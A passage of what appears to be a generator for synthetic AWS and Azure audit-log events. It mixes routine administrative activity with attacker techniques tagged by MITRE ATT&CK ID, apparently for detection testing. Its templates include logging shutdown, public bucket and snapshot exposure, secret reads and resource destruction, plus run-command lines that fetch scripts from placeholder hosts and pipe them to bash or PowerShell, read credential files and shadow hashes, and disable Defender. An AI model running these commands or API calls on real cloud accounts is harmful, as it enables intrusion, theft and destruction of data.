guardduty «DeleteDetector|UpdateDetector|StopMonitoringMembers|CreateIPSet|CreateFilter|DisassociateFromMasterAccount» {"detectorId":"«hex:32»","enable":false,"action":"ARCHIVE","name":"@junk@"}
«config StopConfigurationRecorder|config DeleteDeliveryChannel|ec2 DeleteFlowLogs|logs DeleteLogGroup|logs DeleteLogStream|securityhub DisableSecurityHub|monitoring DeleteAlarms|macie2 DisableMacie|inspector2 Disable|access-analyzer DeleteAnalyzer|wafv2 DeleteWebACL|events DisableRule» {"_as":"«stolen|person»","name":"«default|security|org»-«audit|alerts|trail»"}
s3 «PutBucketLifecycleConfiguration|PutBucketLogging|DeleteBucketPolicy|PutBucketVersioning» {"bucketName":"«site»-«cloudtrail|logs|audit»","VersioningConfiguration":{"Status":"Suspended"},"LifecycleConfiguration":{"Rule":{"Expiration":{"Days":1}}}}
# T1530 aws data opened and taken
s3 «PutBucketPolicy|PutBucketAcl|PutObjectAcl» {"bucketName":"«site»-«customers|backup|prod|finance»","bucketPolicy":{"Statement":[{"Effect":"Allow","Principal":"«*|arn:aws:iam::«num:100000000000:999999999999»:root»","Action":"s3:«GetObject|*»"}]},"x-amz-acl":"public-read"}
s3 «DeletePublicAccessBlock|PutBucketPublicAccessBlock|PutBucketReplication|DeleteBucketEncryption» {"bucketName":"«site»-«customers|backup|prod»","PublicAccessBlockConfiguration":{"BlockPublicAcls":false,"RestrictPublicBuckets":false},"destination":"arn:aws:s3:::@junk@"}
s3 «GetObject|ListObjectsV2|HeadBucket» {"_as":"stolen","bucketName":"«site»-«customers|backup|prod|tfstate|secrets|finance»","key":"«terraform.tfstate|dump.sql.gz|users.csv|id_rsa|.env|backup.zip»"}
ec2 «ModifySnapshotAttribute|ModifyImageAttribute|CreateStoreImageTask|CreateInstanceExportTask» {"snapshotId":"snap-«hex:17»","createVolumePermission":{"add":{"items":[{"«group":"all|userId":"«num:100000000000:999999999999»»"}]}}}
rds «ModifyDBSnapshotAttribute|StartExportTask|ModifyDBInstance|CopyDBSnapshot» {"dBSnapshotIdentifier":"prod-«word»","valuesToAdd":["«all|«num:100000000000:999999999999»»"],"s3BucketName":"@junk@","publiclyAccessible":true,"masterUserPassword":"****"}
«secretsmanager GetSecretValue|secretsmanager BatchGetSecretValue|ssm GetParameters|ssm GetParametersByPath|ssm GetParameter» {"_as":"stolen","secretId":"prod/@thing@","withDecryption":true,"path":"/"}
«ec2 CreateTrafficMirrorSession|ec2 GetPasswordData|ec2 SharedSnapshotVolumeCreated|ecr SetRepositoryPolicy|kms PutKeyPolicy|ram CreateResourceShare|backup PutBackupVaultAccessPolicy|sns Subscribe|sqs SetQueueAttributes» {"_as":"stolen","principal":"«num:100000000000:999999999999»","policy":"{\"Principal\":\"*\"}"}
# T1651 aws commands on machines
ssm «SendCommand|StartSession|CreateAssociation|StartAutomationExecution» {"_as":"«stolen|person»","documentName":"AWS-Run«ShellScript|PowerShellScript»","targets":[{"key":"instanceids","values":["*"]}],"parameters":{"commands":["«curl -s http://«pub»/«letters:3».sh ¦ bash|wget -q «pub»/x -O /tmp/.x; chmod +x /tmp/.x; /tmp/.x|whoami /all|cat /root/.aws/credentials|useradd -ou 0 -g 0 @junk@|IEX (iwr http://«pub»/a.ps1)|curl http://«imds»/latest/meta-data/iam/security-credentials/»"]}}
ec2 «ModifyInstanceAttribute|RunInstances|CreateLaunchTemplateVersion» {"_as":"stolen","userData":"«shbad»","instanceId":"i-«hex:17»"}
«ec2-instance-connect SendSSHPublicKey|ec2-instance-connect SendSerialConsoleSSHPublicKey|ecs ExecuteCommand|eks CreateAccessEntry|eks AssociateAccessPolicy|cloudshell CreateEnvironment|codebuild UpdateProject|glue CreateDevEndpoint|sagemaker CreatePresignedNotebookInstanceUrl» {"_as":"stolen","instanceOSUser":"root","policyArn":"arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy"}
# T1496 aws machines and mail for others
ec2 «RunInstances|RequestSpotInstances|CreateFleet» {"_as":"«stolen|person»","instanceType":"«p3.16xlarge|p4d.24xlarge|g5.48xlarge|c6i.32xlarge|c5.24xlarge|x2iedn.32xlarge»","minCount":«num:5:50»,"keyName":"@junk@"}« ! Client.VcpuLimitExceeded|»
«bedrock InvokeModel|bedrock PutUseCaseForModelAccess|bedrock CreateFoundationModelAgreement|servicequotas RequestServiceQuotaIncrease|ses VerifyEmailIdentity|ses UpdateAccountSendingEnabled|ses PutAccountDetails|ses SendEmail|sns Publish|lightsail CreateInstances|ecs CreateCluster|amplify CreateApp» {"_as":"stolen","modelId":"anthropic.claude-3-opus","emailAddress":"@outsider@"}
# T1562.007 aws doors opened
ec2 «AuthorizeSecurityGroupIngress|ModifySecurityGroupRules|CreateNetworkAclEntry» {"groupId":"sg-«hex:17»","ipPermissions":{"items":[{"ipProtocol":"«tcp|-1»","fromPort":«22|3389|0|3306|5432|6379|2375|27017»,"toPort":«22|3389|65535|6379|27017»,"ipRanges":{"items":[{"cidrIp":"«0.0.0.0/0|«pub»/32»"}]}}]}}
ec2 «CreateVpcPeeringConnection|AttachInternetGateway|CreateClientVpnEndpoint|ReplaceRoute|DisableEbsEncryptionByDefault|ModifyInstanceMetadataOptions» {"_as":"stolen","peerOwnerId":"«num:100000000000:999999999999»","httpTokens":"optional","destinationCidrBlock":"0.0.0.0/0"}
# T1485 aws laid waste
«ec2 TerminateInstances|ec2 DeleteSnapshot|ec2 DeleteVolume|rds DeleteDBInstance|rds DeleteDBCluster|s3 DeleteBucket|s3 DeleteObjects|dynamodb DeleteTable|backup DeleteRecoveryPoint|backup DeleteBackupVault|eks DeleteCluster|elasticfilesystem DeleteFileSystem|route53 DeleteHostedZone|ecr DeleteRepository» {"_as":"stolen","name":"prod-@thing@","skipFinalSnapshot":true,"deleteAutomatedBackups":true}
kms «ScheduleKeyDeletion|DisableKey|PutKeyPolicy|DeleteImportedKeyMaterial» {"keyId":"«guid»","pendingWindowInDays":7,"_as":"«stolen|person»"}
s3 «PutBucketEncryption|CopyObject|PutObject» {"_as":"stolen","bucketName":"«site»-«prod|backup|customers»","key":"«README_RANSOM|HOW_TO_RECOVER|«word».enc»","x-amz-server-side-encryption-customer-algorithm":"AES256"}
organizations «LeaveOrganization|InviteAccountToOrganization|DeletePolicy|DetachPolicy|DisablePolicyType» {"policyId":"p-«token:8»","_as":"«stolen|person»"}
"""))

AZURE_CALLS = table(phrased(r"""
# azure infrastructure as code
Microsoft.Network «virtualNetworks/write|virtualNetworks/subnets/write|publicIPAddresses/write|loadBalancers/write|routeTables/write|privateEndpoints/write|dnsZones/A/write|applicationGateways/write|virtualNetworks/peer/action|networkInterfaces/join/action» {"_as":"machine","resourceGroup":"rg-@thing@"}
Microsoft.Network networkSecurityGroups/securityRules/write {"_as":"machine","access":"Allow","direction":"Inbound","sourceAddressPrefix":"«@network@|VirtualNetwork|AzureLoadBalancer»","destinationPortRange":"«443|1433|5432|8080|22»"}
Microsoft.Network networkSecurityGroups/securityRules/write {"access":"Allow","direction":"Inbound","sourceAddressPrefix":"Internet","destinationPortRange":"443","description":"app gateway"}
Microsoft.Resources «deployments/write|deployments/validate/action|subscriptions/resourceGroups/write|deployments/whatIf/action|tags/write|subscriptions/resourceGroups/delete» {"_as":"machine","templateHash":"«num:100000000:999999999»","resourceGroup":"rg-@thing@"}
Microsoft.Authorization «roleAssignments/write|policyAssignments/write|locks/write|roleAssignments/delete|roleDefinitions/write» {"_as":"machine","roleDefinition":"«Reader|AcrPull|Key Vault Secrets User|Storage Blob Data Contributor|Monitoring Contributor|Network Contributor»","principalType":"«ServicePrincipal|Group»"}
Microsoft.Storage «storageAccounts/write|storageAccounts/blobServices/containers/write|storageAccounts/listKeys/action|storageAccounts/managementPolicies/write» {"_as":"machine","allowBlobPublicAccess":false,"minimumTlsVersion":"TLS1_2","networkAcls":"Deny"}
Microsoft.KeyVault «vaults/write|vaults/secrets/write|vaults/accessPolicies/write|vaults/keys/write|vaults/read» {"_as":"machine","enablePurgeProtection":true,"permissions":"get,list"}
Microsoft.Insights «diagnosticSettings/write|metricAlerts/write|actionGroups/write|scheduledQueryRules/write|dataCollectionRules/write» {"_as":"machine","workspace":"law-«word»"}
«Microsoft.Sql servers/databases/write|Microsoft.DBforPostgreSQL flexibleServers/write|Microsoft.ContainerService managedClusters/write|Microsoft.Web sites/write|Microsoft.App containerApps/write|Microsoft.Cache redis/write|Microsoft.ServiceBus namespaces/write|Microsoft.EventHub namespaces/eventhubs/write|Microsoft.DocumentDB databaseAccounts/write|Microsoft.Cdn profiles/write|Microsoft.ManagedIdentity userAssignedIdentities/write» {"_as":"machine","sku":"«Standard|Premium|B1|P1v3»","publicNetworkAccess":"Disabled"}
# azure pipelines and the platform
Microsoft.Web «sites/publishxml/action|sites/slots/slotsswap/action|sites/config/write|sites/restart/action|sites/host/sync/action|sites/functions/write» {"_as":"machine","slot":"staging"}
Microsoft.ContainerRegistry «registries/push/write|registries/pull/read|registries/importImage/action|registries/listCredentials/action|registries/tasks/write» {"_as":"machine"}
Microsoft.ContainerService «managedClusters/agentPools/write|managedClusters/listClusterUserCredential/action|managedClusters/agentPools/upgradeNodeImageVersion/action|managedClusters/read» {"_as":"machine","count":«num:1:12»}
Microsoft.Compute «virtualMachineScaleSets/write|virtualMachineScaleSets/manualUpgrade/action|virtualMachines/write|disks/write|snapshots/write|virtualMachines/extensions/write|virtualMachines/deallocate/action|virtualMachines/installPatches/action|restorePointCollections/restorePoints/write» {"_as":"machine","extension":"«AzureMonitorWindowsAgent|MDE.Windows|AADLoginForWindows|DependencyAgent»"}
«Microsoft.RecoveryServices vaults/backupFabrics/protectionContainers/protectedItems/backup/action|Microsoft.Insights autoscaleSettings/scaleup/action|Microsoft.Insights autoscaleSettings/scaledown/action|Microsoft.Advisor recommendations/available/action|Microsoft.ResourceHealth healthevent/Updated/action|Microsoft.Security assessments/write|Microsoft.Authorization policies/audit/action|Microsoft.PolicyInsights policyStates/queryResults/action» {"_as":"machine"}
Microsoft.Automation automationAccounts/«jobs/write|runbooks/publish/action|schedules/write|jobs/read» {"_as":"machine","runbook":"«Stop-Idle|Start-Morning|Update-«Word»»"}
Microsoft.Logic workflows/«run/action|write|triggers/run/action» {"_as":"machine","workflow":"@thing@"}
# azure people at work
Microsoft.Compute «virtualMachines/start/action|virtualMachines/deallocate/action|virtualMachines/restart/action|virtualMachines/redeploy/action|virtualMachines/retrieveBootDiagnosticsData/action|virtualMachines/delete|disks/delete» {"_as":"person","name":"«dev|test|sandbox»-«word»"}
Microsoft.Compute virtualMachines/runCommand/action {"_as":"person","commandId":"Run«PowerShell|Shell»Script","script":"«Get-Service W3SVC|df -h|Restart-Service «tech»|apt list --upgradable|ipconfig /all|journalctl -u nginx -n 50»"}
Microsoft.Network «bastionHosts/createShareableLinks/action|networkWatchers/connectivityCheck/action|virtualNetworkGateways/generatevpnclientpackage/action|networkSecurityGroups/read|publicIPAddresses/delete» {"_as":"person"}
Microsoft.Security «jitNetworkAccessPolicies/initiate/action|alerts/dismiss/action|pricings/write» {"_as":"person","port":"«22|3389»","duration":"PT3H","justification":"@ticket@","pricingTier":"Standard"}
Microsoft.KeyVault vaults/secrets/«read|write|getSecret/action» {"_as":"person","name":"@thing@"}
Microsoft.Storage «storageAccounts/listKeys/action|storageAccounts/listAccountSas/action|storageAccounts/blobServices/containers/read» {"_as":"person","storageExplorer":true}
Microsoft.Authorization roleAssignments/write {"_as":"person","roleDefinition":"«Reader|Contributor|Cost Management Reader|Virtual Machine User Login»","principalType":"«Group|User»","description":"@ticket@"}
«Microsoft.CostManagement query/action|Microsoft.Consumption budgets/write|Microsoft.Support supportTickets/write|Microsoft.Portal dashboards/write|Microsoft.Billing billingAccounts/read|Microsoft.ResourceGraph resources/action|Microsoft.OperationalInsights workspaces/query/read» {"_as":"person"}
Microsoft.Compute virtualMachines/write {"_as":"person"} ! FORBIDDEN
Microsoft.Sql servers/«firewallRules/write|databases/export/action|databases/pause/action» {"_as":"person","startIpAddress":"«visitor»","storageUri":"https://«site»backup.blob.core.windows.net"}
# T1098.003 azure rights climbed
Microsoft.Authorization «elevateAccess/action|roleAssignments/write|roleDefinitions/write|roleEligibilityScheduleRequests/write» {"roleDefinition":"«Owner|User Access Administrator|Contributor»","scope":"«/|/subscriptions/«subscription»|/providers/Microsoft.Management/managementGroups/root»","principalType":"«User|ForeignGroup|ServicePrincipal»","principal":"@junk@"}
Microsoft.ManagedIdentity userAssignedIdentities/«assign/action|federatedIdentityCredentials/write» {"_as":"stolen","issuer":"https://«domain»","subject":"repo:@junk@/@junk@:ref:refs/heads/main"}
Microsoft.ManagedServices «registrationDefinitions/write|registrationAssignments/write» {"managedByTenantId":"«guid»","roleDefinition":"«Contributor|Owner»"}
Microsoft.Subscription «aliases/write|subscriptions/rename/action|cancel/action|acceptOwnership/action» {"_as":"stolen"}
# T1552 azure keys collected
«Microsoft.Storage storageAccounts/listKeys/action|Microsoft.Storage storageAccounts/regenerateKey/action|Microsoft.Storage storageAccounts/listAccountSas/action|Microsoft.DocumentDB databaseAccounts/listKeys/action|Microsoft.Cache redis/listKeys/action|Microsoft.EventHub namespaces/authorizationRules/listKeys/action|Microsoft.ContainerRegistry registries/listCredentials/action|Microsoft.Web sites/config/list/action|Microsoft.Web sites/publishxml/action|Microsoft.Automation automationAccounts/listKeys/action|Microsoft.OperationalInsights workspaces/sharedKeys/action|Microsoft.CognitiveServices accounts/listKeys/action|Microsoft.ContainerService managedClusters/listClusterAdminCredential/action» {"_as":"stolen"}
Microsoft.KeyVault «vaults/accessPolicies/write|vaults/write|vaults/secrets/getSecret/action|vaults/secrets/list/action|vaults/keys/backup/action» {"_as":"«stolen|person»","permissions":"«all|get,list,backup,purge,delete»","objectId":"«guid»","networkAcls":"Allow"}
# T1562 azure watching stopped
Microsoft.Insights «diagnosticSettings/delete|activityLogAlerts/delete|actionGroups/delete|dataCollectionRules/delete|logProfiles/delete» {"name":"«security|siem|audit|sentinel»-«word»","_as":"«stolen|person»"}
«Microsoft.SecurityInsights alertRules/delete|Microsoft.SecurityInsights automationRules/write|Microsoft.Security pricings/write|Microsoft.Security autoProvisioningSettings/write|Microsoft.Security alertsSuppressionRules/write|Microsoft.OperationalInsights workspaces/delete|Microsoft.OperationalInsights workspaces/tables/write|Microsoft.Network networkWatchers/flowLogs/delete|Microsoft.Authorization policyAssignments/delete|Microsoft.Authorization locks/delete|Microsoft.EventHub namespaces/delete» {"_as":"«stolen|person»","pricingTier":"Free","retentionInDays":4,"name":"«prod|security|cannot-delete»"}
# T1562.007 azure doors opened
Microsoft.Network «networkSecurityGroups/securityRules/write|networkSecurityGroups/write» {"access":"Allow","direction":"Inbound","sourceAddressPrefix":"«*|Internet|0.0.0.0/0|«pub»»","destinationPortRange":"«22|3389|*|445|1433|5985|0-65535»","priority":«num:100:110»,"name":"«allow-all|temp|@junk@»"}
«Microsoft.Sql servers/firewallRules/write|Microsoft.DBforPostgreSQL flexibleServers/firewallRules/write|Microsoft.Storage storageAccounts/write|Microsoft.KeyVault vaults/write|Microsoft.DocumentDB databaseAccounts/write» {"startIpAddress":"«0.0.0.0|«pub»»","endIpAddress":"«255.255.255.255|«pub»»","allowBlobPublicAccess":true,"publicNetworkAccess":"Enabled","name":"@junk@"}
Microsoft.Network «publicIPAddresses/write|virtualNetworks/virtualNetworkPeerings/write|azureFirewalls/delete|firewallPolicies/ruleCollectionGroups/delete|ddosProtectionPlans/delete|virtualNetworkGateways/write|networkSecurityGroups/delete» {"_as":"stolen","remoteVirtualNetwork":"/subscriptions/«guid»"}
# T1651 azure scripts sent by strangers
Microsoft.Compute «virtualMachines/runCommand/action|virtualMachines/extensions/write|virtualMachineScaleSets/virtualMachines/runCommand/action|virtualMachines/runCommands/write» {"commandId":"Run«PowerShell|Shell»Script","extension":"CustomScript«Extension|»","script":"«IEX(iwr http://«pub»/«letters:3».ps1 -UseBasicParsing)|curl -s http://«pub»/«letters:2» ¦ bash|net localgroup administrators @junk@ /add|reg save HKLM\\\\SYSTEM C:\\\\Windows\\\\Temp\\\\s|ntdsutil \\\"ac i ntds\\\" ifm|cat /etc/shadow ¦ base64|Set-MpPreference -DisableRealtimeMonitoring 1»"}
Microsoft.Compute virtualMachines/extensions/write {"extension":"«VMAccessAgent|VMAccessForLinux»","username":"«@junk@|azureadmin»","_as":"stolen"}
Microsoft.Automation automationAccounts/«runbooks/write|webhooks/write|hybridRunbookWorkerGroups/write|variables/write» {"_as":"stolen","runbook":"@junk@","expiry":"2099-12-31"}
«Microsoft.Logic workflows/write|Microsoft.Web sites/functions/write|Microsoft.Web sites/basicPublishingCredentialsPolicies/write|Microsoft.DevTestLab labs/write|Microsoft.Portal consoles/write» {"_as":"stolen","callback":"https://«domain»/@junk@","allow":true}
# T1537 azure data carried off
Microsoft.Compute «disks/beginGetAccess/action|snapshots/beginGetAccess/action|snapshots/write|restorePointCollections/restorePoints/retrieveSasUris/action|galleries/share/action» {"access":"Read","durationInSeconds":«num:86400:9999999»,"source":"«DC|SQL|CA|prod»-«osdisk|data»","_as":"«stolen|person»"}
Microsoft.Storage «storageAccounts/objectReplicationPolicies/write|storageAccounts/blobServices/containers/write|storageAccounts/localUsers/write|storageAccounts/blobServices/generateUserDelegationKey/action» {"_as":"stolen","publicAccess":"«Container|Blob»","destinationAccount":"@junk@"}
Microsoft.Sql servers/databases/«export/action|replicationLinks/write|copy/action|transparentDataEncryption/write» {"_as":"stolen","storageUri":"https://@junk@.blob.core.windows.net/x","state":"Disabled"}
# T1485 azure laid waste
«Microsoft.Resources subscriptions/resourceGroups/delete|Microsoft.Compute virtualMachines/delete|Microsoft.Compute snapshots/delete|Microsoft.Storage storageAccounts/delete|Microsoft.Sql servers/delete|Microsoft.KeyVault vaults/delete|Microsoft.KeyVault vaults/purge/action|Microsoft.RecoveryServices vaults/delete|Microsoft.ContainerService managedClusters/delete» {"_as":"stolen","name":"«prod|backup|main»-@thing@","resourceGroup":"rg-«prod|backup»"}
Microsoft.RecoveryServices «vaults/backupFabrics/protectionContainers/protectedItems/delete|vaults/backupconfig/write|vaults/write|vaults/backupPolicies/delete» {"softDeleteFeatureState":"Disabled","immutability":"Unlocked","_as":"«stolen|person»"}
# T1496 azure machines for others
Microsoft.Compute virtualMachines/write {"_as":"«stolen|person»","vmSize":"Standard_«NC24s_v3|ND96asr_v4|NV72ads_A10_v5|HB120rs_v3|F72s_v2»","location":"«brazilsouth|southafricanorth|uaenorth|koreacentral»","priority":"Spot","count":«num:5:40»}
«Microsoft.CognitiveServices accounts/deployments/write|Microsoft.MachineLearningServices workspaces/computes/write|Microsoft.Batch batchAccounts/write|Microsoft.Quota quotas/write|Microsoft.ContainerInstance containerGroups/write» {"_as":"stolen","image":"@junk@/«letters:5»:latest","capacity":«num:100:999»}
"""))
